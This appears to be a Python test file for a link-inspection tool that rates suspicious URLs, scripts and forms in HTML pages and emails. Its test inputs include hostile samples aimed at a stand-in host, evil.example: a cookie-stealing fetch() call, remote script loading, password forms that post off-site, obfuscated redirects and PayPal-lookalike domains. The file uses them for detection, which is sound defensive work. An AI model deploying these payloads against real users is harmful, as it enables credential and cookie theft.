"""Findings that depend on the element and attribute of a link."""

import base64

import uriinspector
from tests.documents.mails import simple
from tests.for_each import for_each
from uriinspector.documents.cases.link_row import row_of
from uriinspector.documents.judge import effect_of

MAIL = "Content-Type: text/html; charset=utf-8"
LINKED = "<a href=https://home.example/{}>x</a>"
HOME = "".join(LINKED.format(number) for number in range(8))


def reported(page: str, *, mail: bool = False, name: str = "x.html") -> dict[str, tuple[str, str]]:
    """Return the first finding of each code: severity and message."""
    octets = simple(MAIL, page) if mail else page.encode()
    result: dict[str, tuple[str, str]] = {}
    for link in uriinspector.scan(octets, name="x.eml" if mail else name).links:
        for each in link.findings:
            result.setdefault(each.code, (each.severity, each.message))
    return result


def severity_of(page: str, code: str, *, mail: bool = False) -> str | None:
    return reported(page, mail=mail).get(code, (None,))[0]


@for_each(
    "element, attribute, effect",
    *((None, None, "in text"), (None, "subject", None), ("a", "href", "followed")),
    *(("form", "action", "followed"), ("meta", "content", "followed"), ("iframe", "src", "framed")),
    *(("object", "data", "framed"), ("img", "srcset", "pictured"), ("div", "style", "pictured")),
    *(("style", None, "pictured"), ("link", "href", "pictured"), ("script", "src", "scripted")),
    *(("script", None, "in code"), ("a", "onclick", "in code"), ("q", "cite", "named")),
    ("param", "value", None),
)
def test_effect_depends_on_element_and_attribute(
    element: str | None, attribute: str | None, effect: str | None
) -> None:
    assert effect_of(element, attribute) == effect


@for_each(
    "page, code, severity",
    ("<a href='javascript:void(0)'>", "dangerous-scheme", "info"),
    ("<a href='javascript:openMenu(1)'>", "dangerous-scheme", "low"),
    ("<iframe src='javascript:x()'>", "dangerous-scheme", "low"),
    ("<img src='javascript:x()'>", "dangerous-scheme", "medium"),
    ("<a href='vbscript:x()'>", "dangerous-scheme", "high"),
    ("<a href='ms-msdt:/id'>", "dangerous-scheme", "high"),
    ("<a href='data:text/html,<script>x()</script>'>", "data-active", "high"),
    ("<iframe src='data:text/html,<script>x()</script>'>", "data-active", "high"),
    ("<img src='data:text/html,<script>x()</script>'>", "data-active", "info"),
    ("<script src='data:text/javascript,x()'>", "data-active", "low"),
    ("<script>x = 'data:text/javascript;base64'</script>", "data-active", "info"),
    ("<script>x = 'data:text/html;base64," + "PGI+" * 9 + "'</script>", "data-active", "medium"),
    ("<a href='https://a.example/?a\nb'>", "control-char", "low"),
    ("<a href='https://a.ex\nample/'>", "control-char", "medium"),
    ("<a href='java\nscript:x()'>", "control-char", "high"),
    ("<a href='http://'>", "empty-host", "low"),
    ("<a href='http:////a.example/'>", "missing-authority", "high"),
    ("<a href='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "high"),
    ("<img src='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "low"),
    ("<q cite='https://paypal.com@a.example/'>", "userinfo-deceptive", "low"),
    ("<img src='https://paypal.com@a.example/'>", "userinfo-deceptive", "medium"),
    ("<img src='file://a.example/x/y.png'>", "file-remote", "high"),
)
def test_severity_depends_on_element_and_attribute(page: str, code: str, severity: str) -> None:
    assert severity_of(page, code) == severity


def test_row_and_link_have_the_same_findings() -> None:
    page = "<img src='https://a.example/www.paypal.com/x'><a href=' javascript:f() '>x</a>"
    for link in uriinspector.scan(page, name="x.html").links:
        row = row_of(link, 0)
        again = row.inspection("2005", ())
        assert again.findings == link.findings
        assert again.verdict.severity == row.severity == link.verdict.severity
        assert link.inspection.verdict.severity in {row.severity, "low"}


@for_each("value", " {} ", "\n\t{}", "{}\r\n")
def test_whitespace_around_a_value_is_info(value: str) -> None:
    plain, spaced = (
        next(iter(uriinspector.scan(f"<a href='{each}'>x</a>", name="x.html").links))
        for each in ("https://u@a.example/x", value.format("https://u@a.example/x"))
    )
    assert spaced.target == plain.target
    extra = [each for each in spaced.findings if each.code == "surrounding-space"]
    assert [each.severity for each in extra] == ["info"]
    rest = [each for each in spaced.findings if each.code != "surrounding-space"]
    assert [each.code for each in rest] == [each.code for each in plain.findings]
    # Positions refer to the value as written.
    for each, other in zip(rest, plain.findings, strict=True):
        start, end = each.start, each.end
        assert spaced.value[start:end] == plain.value[other.start : other.end]


@for_each(
    "code, severity, words",
    ("location='https://evil.example/'", "high", "The code in this link goes to evil.example"),
    ("location.href = `//evil.example/`", "high", "The code in this link goes to evil.example"),
    ("top.location.replace('https://evil.example')", "high", "goes to"),
    ("%6cocation='https://evil.example/'", "high", "goes to"),
    ("location='ht'+'tps://evil.example/'", "high", "goes to"),
    ("location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')", "high", "evil.example"),
    ("window.open('https://evil.example/')", "medium", "opens evil.example"),
    ("document.links[0].href='https://evil.example/'", "medium", "changes"),
    ("fetch('https://evil.example/?'+document.cookie)", "high", "send data to evil.example"),
    ("document.forms[0].action='https://evil.example/'", "high", "send data"),
    ("s=document.createElement('script');s.src='//evil.example/x.js'", "high", "loads a script"),
    ("import('https://evil.example/x.js')", "high", "loads a"),
    ("eval(x)", "high", 'as it runs: "eval("'),
    ("loc\\u0061tion=x", "high", "as it runs"),
    ("window['loc'+x]=y", "high", "as it runs"),
    ("document.write('<form action=x>')", "high", "markup"),
    ("document.write('<script>x</script>')", "medium", "markup"),
    ("location='https://www.paypal.com/'", "low", "www.paypal.com"),
    ("location='https://home.example/x'", "info", "home.example"),
    ("s=document.createElement('script');s.src='//assets.paypal.com/x.js'", "medium", "loads"),
    ("location='/x'", None, ""), ("location.reload()", None, ""), ("history.back()", None, ""),
    ("window.open('/help','x')", None, ""),
    ("showImage('https://cdn.example/a.jpg')", None, ""),
    ("this.src='https://cdn.example/a.jpg'", None, ""),
    ("decrypt('nbjmup+jogp')", None, ""),
)  # fmt: skip
def test_severity_of_a_javascript_link_depends_on_its_code(
    code: str, severity: str | None, words: str
) -> None:
    found = reported(HOME + f'<a href="javascript:{code}">x</a>').get("script-link")
    assert (found[0] if found else None) == severity
    assert words in (found[1] if found else "")


@for_each(
    "page, severity",
    ("<img src=a.png onerror=\"this.src='https://cdn.example/b.png'\">", "info"),
    ("<img src=a.png onerror=\"location='https://evil.example/'\">", "high"),
    ("<img src=a.png onerror=\"location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')\">", "high"),
    ("<body onload=\"location='https://www.paypal.com/'\">", "low"),
    ("<a href=https://a.example onclick=\"window.open('https://www.facebook.com/s')\">", "low"),
    ("<a href=https://a.example onclick=\"window.open('https://evil.example/')\">", "medium"),
    ("<a href=https://a.example onmousedown=\"this.href='https://b.example'\">", "low"),
    ("<a href=https://a.example onmousedown=\"location='https://b.example'\">", "high"),
    ("<a href=https://paypal.com onmousedown=\"this.href='https://b.example'\">", "high"),
    ("<a href=https://a.example onclick=\"ga('https://b.example/')\">", "low"),
)
def test_severity_of_an_event_handler_depends_on_where_it_navigates(
    page: str, severity: str
) -> None:
    assert severity_of(page, "event-handler") == severity


def test_click_handlers_that_change_links_are_medium_in_an_email() -> None:
    page = "<a href=https://a.example onmousedown=\"this.href='https://b.example'\">"
    assert severity_of(page, "event-handler", mail=True) == "medium"


CODED = base64.b64encode(b"https://evil.example/x").decode()


@for_each(
    "page, code, severity",
    (f"<script>location=atob('{CODED}')</script>", "auto-redirect", "high"),
    (f"<script>u='{CODED}';location=atob(u)</script>", "html-obfuscation", "medium"),
    (f"<script>config('{CODED}')</script>", "html-obfuscation", "low"),
    ("<script>location='https://evil.example'</script>", "auto-redirect", "medium"),
    ("<script>window['location']='https://evil.example'</script>", "auto-redirect", "medium"),
    ("<script>top.location = ( 'https://evil.example')</script>", "auto-redirect", "medium"),
    ("<script>window['location']='/x'</script>", "auto-redirect", None),
    ("<script>a='https://evil.example';location=a</script>", "auto-redirect", "medium"),
    ("<script>a='https://evil.example';location=this.x</script>", "auto-redirect", None),
    (HOME + "<script>a='https://evil.example';location=a</script>", "auto-redirect", None),
    (HOME + "<script>location='https://home.example'</script>", "auto-redirect", "low"),
)
def test_severity_of_an_address_in_a_script_depends_on_its_use(
    page: str, code: str, severity: str | None
) -> None:
    assert severity_of(page, code) == severity


def test_small_redirecting_page_in_a_message_is_high() -> None:
    page = "<script>location='https://evil.example'</script>"
    assert severity_of(page, "auto-redirect", mail=True) == "high"


@for_each("packed", "base64", "percent")
def test_page_in_a_script_string_is_read(packed: str) -> None:
    inner = "<html><form action=https://evil.example/a><input type=password></form></html>"
    if packed == "base64":
        written = base64.b64encode(inner.encode()).decode()
        page = f"<script>document.write(atob('{written}'))</script>"
    else:
        written = inner.replace("<", "%3C").replace(">", "%3e")
        page = f'<script>document.write(unescape("{written}"))</script>'
    document = uriinspector.scan(page, name="x.html")
    link = next(each for each in document.links if each.element == "form")
    assert (link.value, link.part) == ("https://evil.example/a", "1.script1")
    assert link.verdict.severity == "medium"
    source = page[link.source.start : link.source.end]
    assert source in page[page.index(written) :]
    if packed == "percent":
        assert source == "https://evil.example/a"


@for_each(
    "code, runs",
    ("eval(atob(x))", True), ("new Function( window.atob('eA=='))()", True),
    ("setTimeout(unescape('%61'), 1)", True), ("evaluate(atob(x))", False), ("x = atob(y)", False),
)  # fmt: skip
def test_decoded_code_is_reported_as_not_examined(code: str, runs: bool) -> None:
    document = uriinspector.scan(f"<script>{code}</script>", name="x.html")
    reasons = [each.reason for each in document.not_examined]
    assert reasons == (["a script decodes code, then runs it"] if runs else [])


def test_strings_that_only_look_packed_are_not_pages() -> None:
    noise = base64.b64encode(b"<\xff\xfe\0" * 20).decode()
    plain = base64.b64encode(b"<p>" + b"some text " * 9).decode()
    for code in (f"atob('{noise}')", f"x('{plain}')"):
        document = uriinspector.scan(f"<script>{code}</script>", name="x.html")
        assert [each.path for each in document.parts] == ["1"]


def test_number_of_packed_pages_is_limited() -> None:
    each = base64.b64encode(b"<p><a href=https://a.example/>some text</a></p>").decode()
    document = uriinspector.scan(f"<script>atob('{each}')</script>" * 70, name="x.html")
    assert len(document.parts) == 65
    assert "pages inside scripts" in document.not_examined[0].reason


@for_each(
    "tag, severity",
    ("<a href=https://a.example/ ping=https://b.example/>", "low"),
    ("<a href=https://a.example/ ping=https://www.a.example/x>", None),
    ("<a ping='/x https://b.example/'>", "low"),
)
def test_ping_to_another_site_is_reported(tag: str, severity: str | None) -> None:
    assert severity_of(tag, "click-ping") == severity


@for_each(
    "field, asked",
    ("<input type=password>", True),
    ("<input name=userPassword>", True),
    ("<input type=text placeholder='Mot de passe'>", True),
    ("<input type=text id=pwd>", True),
    ("<input autocomplete=current-password>", True),
    ("<input aria-label=Password>", True),
    ("<input title=Password>", False),
    *((f"<input type={kind} name=pin-password>", True) for kind in ("number", "email")),
    ("<input type=search name=passcode>", True),
    ("<input type=date name=passcode>", False),
    ("<input type=tel style='-webkit-text-security:disc'>", True),
    ("<input placeholder=Contraseña>", True), ("<input name=passenger>", False),
    ("<input name=compass>", False), ("<input type=hidden name=password>", False),
    ("<input type=checkbox name=showpassword>", False),
)  # fmt: skip
def test_forms_with_password_fields_are_high(field: str, asked: bool) -> None:
    page = f"<form action=https://evil.example/>{field}</form>"
    assert severity_of(page, "form-action", mail=True) == ("high" if asked else "low")


@for_each(
    "page, severity",
    ("<svg xml:base='https://evil.example/'><a href=x>", None),
    ("<?xml version='1.0'?><html xml:base='https://evil.example/'><a href=x>", "medium"),
    ("<html xml:base='https://evil.example/'><a href=x>", "low"),
    ("<html xml:base='/x/'><a href=x>", None),
)
def test_xml_base_is_reported(page: str, severity: str | None) -> None:
    if page.startswith("<svg"):
        assert severity_of(page, "base-hijack") in {"low", "medium"}
    else:
        assert severity_of(page, "base-hijack") == severity


@for_each(
    "text, href, severity",
    ("Log in to PayPal", "https://evil.example/", "medium"),
    ("PayPal", "https://evil.example/", "low"),
    ("PayPal-Konto bestätigen", "https://evil.example/", "medium"),
    ("PayPal", "https://www.paypal.com/", None),
    ("Log in to Paypal at paypal.com", "https://evil.example/", None),
    ("Update your Account", "https://evil.example/", None),
    ("PayPal " * 12, "https://evil.example/", None),
)
def test_known_name_in_a_link_text_is_reported(text: str, href: str, severity: str | None) -> None:
    page = f'<a href="{href}">{text}</a>'
    assert severity_of(page, "known-name-elsewhere", mail=True) == severity
    assert severity_of(page, "known-name-elsewhere") is None


@for_each(
    "page, severity",
    ("<a href='https://evil.example/' style='display:none'>x</a>", "medium"),
    ("<a href='https://a.example/' style='display:none'>x</a><a href='https://a.example'>", "low"),
    ("<a href='https://evil.example/' hidden>x</a>", "low"),
    ("<a href='#x' style='display:none'>x</a>", "low"),
)
def test_hidden_link_in_a_message_is_reported(page: str, severity: str) -> None:
    assert severity_of(page, "hidden-link", mail=True) == severity


@for_each(
    "href, severity",
    ("https&#58;//a.example/", "info"), ("https:&#x2F;&#x2F;a.example&#x2F;x", "info"),
    ("https://&#97;.example/", "low"), ("&#104;ttps://a.example/", "medium"),
    ("https://&#97;bc.&#101;x&#97;mple/", "medium"),
    ("https://a.example/&#97;&#98;&#99;&#100;", "info"),
    ("mailto:&#105;&#110;&#102;&#111;@a.example", "info"),
    ("&#116;&#101;&#108;:+49-30-1", "info"), ("&#115;&#109;&#115;:+49-30-1", "info"),
    ("&#102;&#116;&#112;://a.example/", "medium"), ("/&#97;&#98;&#99;", "info"),
)  # fmt: skip
def test_severity_of_numeric_character_references_depends_on_their_place(
    href: str, severity: str
) -> None:
    assert severity_of(f"<a href='{href}'>x</a>", "html-obfuscation") == severity


@for_each(
    "before, severity",
    ("", "medium"),
    ("<link rel=canonical href=https://www.own.example/x>", "low"),
    ("<link rel=icon href=https://own.example/x>", "medium"),
    ("<link rel=canonical href=https://www.paypal.com/>", "medium"),
    ("<a href=https://own.example/1>x</a>" * 6, "low"),
)
def test_password_form_depends_on_the_canonical_site(before: str, severity: str) -> None:
    form = "<form action=https://own.example/login><input type=password></form>"
    assert severity_of(before + form, "form-action") == severity
    assert severity_of(before + form, "form-action", mail=True) == "high"
